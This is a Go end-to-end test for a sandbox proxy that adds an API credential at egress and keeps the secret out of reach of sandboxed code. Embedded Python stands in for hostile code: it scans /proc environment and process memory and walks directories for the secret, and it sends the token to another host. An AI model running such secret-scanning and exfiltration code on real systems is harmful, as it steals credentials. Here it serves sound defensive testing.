package e2e

import (
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/mcp-forge/mcp-forge/core/config"
	"github.com/mcp-forge/mcp-forge/core/egress"
	"github.com/mcp-forge/mcp-forge/core/egress/credential"
	"github.com/mcp-forge/mcp-forge/test/testenv"
)

// credentialValue is the secret the proxy adds; nothing in a sandbox may
// ever read it.
const credentialValue = "ghp_e2eCredentialValue0123456789abcdef"

// credentialServer is an HTTPS API on loopback (httptest's CA, which the
// credential's ca_file trusts): it records the Authorization it receives
// and echoes it back.
type credentialServer struct {
	srv  *httptest.Server
	port string
	mu   sync.Mutex
	auth []string
}

func (c *credentialServer) seen() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.auth...)
}

// credentialCore is a core whose credential "api" belongs to
// api.example.com (a name of httptest's certificate) on the API's port.
func credentialCore(t *testing.T) (*credentialServer, *networkServers, *testenv.InProcess, string) {
	t.Helper()
	api := &credentialServer{}
	api.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		api.mu.Lock()
		api.auth = append(api.auth, r.Header.Get("Authorization"))
		api.mu.Unlock()
		if r.URL.Path == "/b64" { // an echo in a form the proxy does not replace
			fmt.Fprint(w, base64.StdEncoding.EncodeToString([]byte(r.Header.Get("Authorization"))))
			return
		}
		fmt.Fprintf(w, "you sent %s", r.Header.Get("Authorization"))
	}))
	api.srv.EnableHTTP2 = true
	api.srv.StartTLS()
	t.Cleanup(api.srv.Close)
	_, api.port, _ = net.SplitHostPort(api.srv.Listener.Addr().String())
	caFile := filepath.Join(t.TempDir(), "api-ca.pem")
	if err := os.WriteFile(caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: api.srv.Certificate().Raw}), 0o644); err != nil {
		t.Fatal(err)
	}
	valueFile := filepath.Join(t.TempDir(), "token")
	if err := os.WriteFile(valueFile, []byte(credentialValue+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := newNetworkServers(t)
	p := testenv.NewInProcess(t, func(c *config.Config) {
		s.configure(c)
		c.Network.AllowedHosts = append(c.Network.AllowedHosts, "api.example.com:"+api.port)
		c.Network.Hosts["api.example.com"] = "127.0.0.1"
		c.Network.Credentials = map[string]config.Credential{"api": {Hosts: []string{"api.example.com:" + api.port}, ValueFile: valueFile, CAFile: caFile}}
	})
	return api, s, p, valueFile
}

// The credential reaches its host from Python and R, stateless and in a
// session; the code sees the placeholder only (in its variable, and where
// the host echoed the value), and hostile code finds the value nowhere:
// not in the environment, /proc, the mounted network directory (which
// holds no private key), nor at another granted host it sends the
// placeholder to. The audit log names the credential, never its value.
func TestCredentialAtEgress(t *testing.T) {
	api, s, p, _ := credentialCore(t)
	cs := p.Connect(t)
	url := "https://api.example.com:" + api.port + "/v1"
	python := fmt.Sprintf(`import os, json, urllib.request
tok = os.environ['FORGE_CREDENTIAL_API']
req = urllib.request.Request(%q, headers={'Authorization': 'Bearer ' + tok})
echo = urllib.request.urlopen(req, timeout=20).read().decode()
# elsewhere: the placeholder to another granted host
other = urllib.request.urlopen(urllib.request.Request('http://files.test:%s/data', headers={'Authorization': 'Bearer ' + tok}), timeout=20).read().decode()
# The value, assembled at run time: the code's text (in other processes'
# memory, maybe) holds only its halves.
needle = (%q + %q).encode()
found = []
def scan(path):
    try:
        with open(path, 'rb') as f:
            if needle in f.read(1 << 22): found.append(path)
    except OSError:
        pass
for pid in os.listdir('/proc'):
    if pid.isdigit():
        for name in ('environ', 'cmdline'):
            scan('/proc/%%s/%%s' %% (pid, name))
# A canary holding the needle proves the scan finds it where it is.
import subprocess, sys, time
canary = subprocess.Popen([sys.executable, '-c', 'import sys, time; x = (sys.argv[1] + sys.argv[2]).encode() * 3; print(1, flush=True); time.sleep(60)',
    needle[:10].decode(), needle[10:].decode()], stdout=subprocess.PIPE)
canary.stdout.readline()
# The forwarder's and every other process's memory it may read.
scanned = 0
for pid in os.listdir('/proc'):
    if not pid.isdigit() or int(pid) == os.getpid(): continue
    try:
        maps = open('/proc/%%s/maps' %% pid).read().splitlines()
        mem = open('/proc/%%s/mem' %% pid, 'rb')
    except OSError:
        continue
    for line in maps:
        lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
        if 'r' not in line.split()[1] or hi - lo > 1 << 28: continue
        try:
            mem.seek(lo)
            scanned += 1
            if needle in mem.read(hi - lo): found.append('/proc/%%s/mem' %% pid)
        except (OSError, OverflowError, ValueError):
            pass
for root in ('/forge', '/tmp', os.getcwd()):
    for d, _, files in os.walk(root):
        for f in files:
            scan(os.path.join(d, f))
canary.kill()
mine = '/proc/%%d/' %% canary.pid
canary_hit = any(f.startswith(mine + 'mem') for f in found)
found = [f for f in found if not f.startswith(mine)]
bundle = open(os.environ['SSL_CERT_FILE']).read()
print(json.dumps({'tok': tok, 'echo': echo, 'other': other, 'found': found, 'key_in_bundle': 'PRIVATE KEY' in bundle,
  'net_dir': sorted(os.listdir('/forge/net')), 'ca_env': os.environ.get('REQUESTS_CA_BUNDLE'), 'mem_scanned': scanned, 'canary': canary_hit}))`, url, s.port, credentialValue[:10], credentialValue[10:])
	var o out
	res := testenv.Call(t, cs, "execute_python", map[string]any{"code": python, "network": []string{"files.test"}, "credentials": []string{"api"}}, &o)
	if res.IsError || !o.Success {
		t.Fatalf("python with a credential: %s %+v", testenv.Text(res), o)
	}
	var got struct {
		Tok, Echo, Other string
		CAEnv            string `json:"ca_env"`
		Found            []string
		KeyInBundle      bool     `json:"key_in_bundle"`
		NetDir           []string `json:"net_dir"`
		MemScanned       int      `json:"mem_scanned"`
		Canary           bool
	}
	if err := json.Unmarshal([]byte(strings.TrimSpace(o.Stdout)), &got); err != nil {
		t.Fatalf("%v: %s", err, o.Stdout)
	}
	ph := credential.Placeholder("api")
	switch {
	case got.Tok != ph:
		t.Errorf("FORGE_CREDENTIAL_API = %q, want the placeholder %q", got.Tok, ph)
	case got.Echo != "you sent Bearer "+ph:
		t.Errorf("the host's echo reached the sandbox as %q, want the placeholder in place of the value", got.Echo)
	case len(got.Found) > 0:
		t.Errorf("hostile code found the value in %v", got.Found)
	case got.MemScanned == 0 || !got.Canary:
		t.Errorf("the scan did not find a canary process holding the value (%d regions read): it proves nothing", got.MemScanned)
	case got.KeyInBundle:
		t.Error("the sandbox's CA bundle holds a private key")
	case strings.Join(got.NetDir, ",") != credential.BundleName+","+egress.SocketName:
		t.Errorf("/forge/net holds %v", got.NetDir)
	case got.CAEnv != egress.SandboxDir+"/"+credential.BundleName:
		t.Errorf("REQUESTS_CA_BUNDLE = %q", got.CAEnv)
	}
	if strings.Contains(testenv.Text(res), credentialValue) {
		t.Error("the result holds the value")
	}
	if seen := api.seen(); len(seen) != 1 || seen[0] != "Bearer "+credentialValue {
		t.Errorf("the API saw %q, want the credential once", seen)
	}

	// R with libcurl (CURL_CA_BUNDLE), in a session: the first call asks.
	r := fmt.Sprintf(`
x <- tryCatch({
  f <- tempfile()
  download.file(%q, f, method = "libcurl", quiet = TRUE, headers = c(Authorization = paste("Bearer", Sys.getenv("FORGE_CREDENTIAL_API"))))
  readLines(f, warn = FALSE)
}, error = function(e) conditionMessage(e))
cat(x, "\n")`, url)
	o = out{}
	res = testenv.Call(t, cs, "execute_r", map[string]any{"code": r, "session_id": "cred-r", "credentials": []string{"api"}}, &o)
	if res.IsError || !o.Success || strings.TrimSpace(o.Stdout) != "you sent Bearer "+ph {
		t.Fatalf("R in a session with a credential: %s %+v", testenv.Text(res), o)
	}
	if !strings.Contains(strings.Join(o.Notices, "\n"), "with credential api added by the proxy") {
		t.Errorf("no notice of the credential: %q", o.Notices)
	}
	if seen := api.seen(); len(seen) != 2 || seen[1] != "Bearer "+credentialValue {
		t.Errorf("the API saw %q, want the credential from R too", seen)
	}

	// A background job gets it too.
	var j struct {
		JobID  string `json:"job_id"`
		State  string `json:"state"`
		Result *out   `json:"result"`
	}
	job := fmt.Sprintf(`import os, urllib.request
r = urllib.request.Request(%q, headers={'Authorization': 'Bearer ' + os.environ['FORGE_CREDENTIAL_API']})
print(urllib.request.urlopen(r, timeout=20).read().decode())`, url)
	testenv.Call(t, cs, "execute_python", map[string]any{"code": job, "background": true, "credentials": []string{"api"}}, &j)
	res = testenv.Call(t, cs, "wait_job", map[string]any{"job_id": j.JobID, "timeout": 120}, &j)
	if j.State != "done" || j.Result == nil || strings.TrimSpace(j.Result.Stdout) != "you sent Bearer "+ph {
		t.Fatalf("a job with a credential: %s %+v", testenv.Text(res), j)
	}

	// A host echoing the value in a form the proxy does not replace
	// (base64): what the run returns is scrubbed, decoded or not.
	o = out{}
	b64 := fmt.Sprintf(`import base64, os, urllib.request
r = urllib.request.Request(%q, headers={'Authorization': 'Bearer ' + os.environ['FORGE_CREDENTIAL_API']})
e = urllib.request.urlopen(r, timeout=20).read().decode()
print(e); print(base64.b64decode(e).decode())
e`, "https://api.example.com:"+api.port+"/b64")
	res = testenv.Call(t, cs, "execute_python", map[string]any{"code": b64, "credentials": []string{"api"}}, &o)
	text := testenv.Text(res) + o.Stdout + o.ResultRepr
	if res.IsError || !o.Success || strings.Contains(text, credentialValue) || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("Bearer " + credentialValue))[:20]) ||
		!strings.Contains(o.Stdout, "[redacted]") {
		t.Fatalf("an echo in base64: %s %+v", testenv.Text(res), o)
	}

	// Asking for a credential that is not configured is refused before
	// anything runs, naming what is available.
	o = out{}
	res = testenv.Call(t, cs, "execute_python", map[string]any{"code": "print('ran')", "credentials": []string{"github"}}, &o)
	if !res.IsError || o.Error == nil || !strings.Contains(o.Error.Message, "available: api") || strings.Contains(o.Stdout, "ran") {
		t.Fatalf("an unknown credential: %s %+v", testenv.Text(res), o)
	}

	data, err := os.ReadFile(p.Forge.Config.Security.AuditLog)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), credentialValue) {
		t.Fatal("the audit log holds the value")
	}
	uses := 0
	for _, e := range auditEntries(t, p.Forge.Config.Security.AuditLog) {
		if e.Event == egress.EventCredential && e.Details["cred"] == "api" && fmt.Sprint(e.Details["status"]) == "200" {
			uses++
		}
	}
	if uses != 4 {
		t.Errorf("%d network.credential lines with status 200, want 4", uses)
	}
}
